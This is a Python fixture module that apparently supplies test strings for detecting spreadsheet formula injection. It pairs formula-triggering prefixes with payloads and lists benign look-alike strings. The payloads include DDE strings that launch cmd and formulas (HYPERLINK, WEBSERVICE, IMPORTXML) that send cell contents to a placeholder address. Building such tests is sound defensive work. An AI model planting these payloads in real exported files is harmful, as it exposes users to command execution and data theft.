"""Texts that office programs would run, and texts that only look like it."""

STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%")
CALLS = (
    "1+1",
    "cmd|'/c calc'!A1",
    'HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    'WEBSERVICE("http://192.0.2.1/")',
    "SUM(1,2)*cmd|' /C notepad'!'A1'",
    'IMPORTXML(CONCAT("http://192.0.2.1/?v=",A1),"//a")',
    'DDE("cmd";"/c calc";"x")',
    "A1",
    "1e3+0",
    "2*3",
)
LEADS = ("", " ", "\t", "\r\n", "\n")
LIVE = tuple(lead + start + call for start in STARTS for call in CALLS for lead in LEADS[:3])
LIVE += tuple(lead + start + "1+1" for start in STARTS for lead in LEADS[3:])
PLAIN = ("plain", "a=b", "客户", "1+1", "12%", "x@example.org", "a|b", "'=quoted", "")
NUMBERS = ("-12.5", "+3", "-.5", "-7.")
